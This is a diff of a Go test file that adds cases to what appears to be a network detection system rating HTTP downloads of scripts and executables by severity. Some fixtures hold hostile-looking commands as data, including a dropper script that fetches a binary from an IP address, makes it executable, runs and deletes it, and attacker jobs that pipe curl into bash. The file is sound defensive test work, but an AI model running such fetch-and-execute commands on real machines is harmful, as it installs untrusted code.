@@ -165,6 +165,33 @@ func TestPayloads(t *testing.T) {
 			w.now = w.now.Add(16 * time.Minute)
 			w.get(node, web, 80, "get.tool.example", "/install.sh", "curl/8", "text/plain", script, 200)
 		}, "low", ruleScript, ""},
+		{"a server of packages, by address", func(w *net) {
+			w.get(worker, web, 8081, web+":8081", "/repository/raw/kubectl", "Wget/1.21", "application/octet-stream", elf, 200)
+		}, "low", ruleExecutable, "server of packages"},
+		{"a program as plain text from a server of its own", func(w *net) {
+			w.get(worker, web, 80, "files.vendor.example", "/tool", "Wget/1.21", "text/plain", elf, 200)
+		}, "low", ruleExecutable, ""},
+		{"an installer by address", func(w *net) {
+			w.get(worker, web, 80, web, "/install.sh", "curl/8", "text/x-sh",
+				"#!/bin/sh\nset -e\nos=$(uname -s)\ncurl -fsSL http://mirror.example.net/pkg.tgz | tar xz\necho done\n", 200)
+		}, "low", ruleScript, "installer"},
+		{"an archive that unpacks itself", func(w *net) {
+			w.get(worker, web, 80, web, "/cuda.run", "Wget/1.21", "", "#!/bin/sh\n# This script was generated using Makeself 2.4.0\n", 200)
+		}, "low", ruleScript, "Makeself"},
+		{"settings at boot", func(w *net) {
+			w.get(worker, web, 80, web, "/seed/user-data", "Cloud-Init/23.1", "", script, 200)
+		}, "low", ruleScript, ""},
+		{"an installer that fetches a program and runs it", func(w *net) {
+			w.get(worker, web, 80, web, "/install.sh", "curl/8", "text/x-sh",
+				"#!/bin/sh\nset -e\ncd /tmp\nwget http://198.51.100.77/x86 -O .x\nchmod 777 .x\n./.x\nrm -f .x\n", 200)
+		}, "medium", ruleScript, ""},
+		{"a server of packages, named by a job from outside", func(w *net) {
+			w.job(attacker, node, "wget http://"+web+":8081/repository/raw/m", ray.Executed)
+			w.get(node, web, 8081, web+":8081", "/repository/raw/m", "Wget/1.21", "", elf, 200)
+		}, "high", ruleExecutable, ""},
+		{"an installer of one line", func(w *net) {
+			w.get(worker, web, 80, web, "/setup", "curl/8", "", "#!/bin/sh\nid\n", 200)
+		}, "medium", ruleScript, ""},
 		{"a page", func(w *net) {
 			w.job(attacker, node, "curl -s http://files.example/x.sh | bash", ray.Executed)
 			w.get(node, web, 80, "files.example", "/x.sh", "curl/8", "text/html", page, 200)
